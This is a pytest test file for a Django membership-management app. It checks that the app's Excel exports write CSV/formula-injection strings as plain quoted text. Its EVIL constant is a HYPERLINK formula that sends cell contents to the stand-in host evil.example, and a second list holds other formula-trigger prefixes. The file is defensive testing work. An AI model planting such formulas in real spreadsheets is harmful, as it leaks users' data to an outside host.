"""Formula injection (OWASP "CSV injection"): text that a spreadsheet would run as a formula
is written as text by every .xlsx writer (dangbo.core.xlsx), through the real exports."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import openpyxl
from django.urls import reverse

from dangbo.core.xlsx import xlsx_bytes
from dangbo.orgs.services import org_rename

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
OTHERS = ["+84 912 345 678", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]


def _cells(data: bytes, sheet: str | None = None):
    book = openpyxl.load_workbook(io.BytesIO(data))  # not read-only: styles are read
    ws = book[sheet] if sheet else book.worksheets[0]
    return [cell for row in ws.iter_rows() for cell in row]


def _no_formula_elements(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name


def test_member_export_writes_a_formula_name_as_text(client, users, tree, make_member):
    make_member(tree["cell_a"], name=EVIL)
    client.force_login(users["superuser"])
    response = client.get("/quan-ly/excel/xuat-dang-vien/")
    assert response.status_code == 200
    data = response.content
    cells = [c for c in _cells(data, "Đảng viên") if c.value == EVIL]
    assert cells, "the member's name is in the export, unchanged"
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    _no_formula_elements(data)


def test_every_trigger_is_neutralised_and_numbers_stay_numbers():
    data = xlsx_bytes("Danh sách", ["Cột"], [[value, -5, 3.5] for value in [EVIL, *OTHERS]])
    cells = _cells(data)
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for value in [EVIL, *OTHERS]:
        assert texts[value].data_type == "s" and texts[value].quotePrefix, repr(value)
    numbers = [c for c in cells if c.value == -5]
    assert len(numbers) == 6 and all(c.data_type == "n" and not c.quotePrefix for c in numbers)
    assert not texts["Cột"].quotePrefix  # ordinary text is left alone
    _no_formula_elements(data)


def test_a_list_export_writes_formula_text_as_text(client, users, tree):
    """The audited list exports (dangbo.core.listing -> xlsx_response): the meetings' list."""
    from dangbo.activities.models import Meeting, MeetingKind

    Meeting.objects.create(
        org=tree["cell_a"], kind=MeetingKind.REGULAR, held_on=dt.date(2024, 3, 5), place=EVIL
    )
    client.force_login(users["superuser"])
    response = client.get(reverse("activities:meeting_export"))
    assert response.status_code == 200
    cells = [c for c in _cells(response.content) if c.value == EVIL]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    _no_formula_elements(response.content)


def test_statistics_form_writes_an_org_name_as_text(client, users, tree):
    org_rename(org=tree["bloc"], date=dt.date(2001, 1, 1), name="=1+1 Đảng bộ Khối")
    client.force_login(users["superuser"])
    query = {"org": tree["bloc"].pk, "at": "31/12/2021", "from": "01/01/2021", "to": "31/12/2021"}
    response = client.get(reverse("statforms:export", args=["1"]), query)
    assert response.status_code == 200
    cells = [c for c in _cells(response.content) if str(c.value).startswith("=1+1")]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    _no_formula_elements(response.content)
